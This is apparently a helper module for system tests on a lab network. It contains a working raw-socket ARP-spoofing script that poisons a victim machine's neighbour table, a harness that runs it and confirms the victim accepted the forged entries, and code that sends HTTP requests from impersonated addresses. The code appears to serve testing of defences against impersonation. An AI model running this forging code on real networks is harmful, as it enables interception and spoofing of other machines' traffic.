"""Impersonate other machines with forged ARP, and send requests from their addresses."""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import contextmanager

from tests.system.fleet import Fleet, wait_for

# argv: MAC and IPv4 address of the victim; the claimed addresses.
# Sends ARP replies only to the victim, until it is stopped.
CLAIM = """
import socket, sys, time
victim, victim_address, *claimed = sys.argv[1:]
own = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
victim = bytes.fromhex(victim.replace(":", ""))
head = victim + own + bytes.fromhex("0806" "0001080006040002")
frames = [head + own + socket.inet_aton(one) + victim + socket.inet_aton(victim_address) for one in claimed]
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind(("eth0", 0))
while True:
    for frame in frames:
        wire.send(frame)
    time.sleep(0.05)
"""

# argv: source, destination, port, timeout in seconds. Prints the result of an HTTP client at the source (status of the
# response, `refused` or `none`) and the number of received packets, TCP and ICMP, from a socket that sees all packets.
SPEAK = """
import json, socket, struct, sys
source, destination, port, timeout = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
wire = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
wire.bind(("eth0", 0x0800))
client = socket.socket()
client.settimeout(timeout)
try:
    client.bind((source, 0))
    client.connect((destination, port))
    client.sendall(b"GET /status HTTP/1.0\\r\\n\\r\\n")
    output = client.recv(64).split()[1].decode()
except ConnectionRefusedError:
    output = "refused"
except OSError:
    output = "none"
wire.setblocking(False)
packets = 0
while True:
    try:
        packet, (_device, _protocol, kind, *_rest) = wire.recvfrom(65535)
    except BlockingIOError:
        break
    begin = (packet[0] & 15) * 4
    # An ICMP error contains the start of the packet that caused it.
    about = packet[begin + 8:] if packet[9] == 1 else b""
    refused = len(about) > 23 and about[9] == 6 and struct.unpack_from(">H", about, (about[0] & 15) * 4 + 2)[0] == port
    answered = packet[9] == 6 and struct.unpack_from(">H", packet, begin)[0] == port
    packets += kind != socket.PACKET_OUTGOING and (answered or refused)
print(json.dumps([output, packets]))
"""


def mac_address(fleet: Fleet, name: str) -> str:
    """Return the MAC address of a machine on the lab's network."""
    return fleet.execute(name, ["cat", "/sys/class/net/eth0/address"]).out.strip()


def neighbour_entry(fleet: Fleet, name: str, address: str) -> str:
    """Return the MAC address in a machine's neighbour table for an address, or ''."""
    words = fleet.execute(name, ["ip", "neigh", "show", address, "dev", "eth0"]).out.split()
    return words[words.index("lladdr") + 1] if "lladdr" in words else ""


@contextmanager
def forging(
    fleet: Fleet, attacker: str, victim: tuple[str, str], added: list[str], claimed: list[str]
) -> Iterator[None]:
    """Add addresses to a machine, and send forged ARP for the claimed ones to the victim (name and address)."""
    name, victim_address = victim
    program = [CLAIM, mac_address(fleet, name), victim_address, *claimed]
    for address in added:
        fleet.execute(attacker, ["ip", "address", "add", f"{address}/32", "dev", "eth0"])
    fleet.execute(attacker, ["systemd-run", "--quiet", "--collect", "--unit=forging", "python3", "-c", *program])
    try:
        own = mac_address(fleet, attacker)
        for address in claimed:
            wait_for(
                f"{name} to accept the forged {address}",
                lambda one=address: neighbour_entry(fleet, name, one) == own,
                10,
                0.1,
            )
        yield
    finally:
        fleet.execute(attacker, ["systemctl", "stop", "forging"])
        for address in added:
            fleet.execute(attacker, ["ip", "address", "del", f"{address}/32", "dev", "eth0"])


def request_status(fleet: Fleet, name: str, source: str, destination: str, port: int = 8080) -> tuple[str, int]:
    """Request /status from an address. Return the result and the number of unencrypted packets received on eth0."""
    output = fleet.execute(name, ["python3", "-c", SPEAK, source, destination, str(port), "2"]).out
    answer, packets = json.loads(output)
    return answer, packets
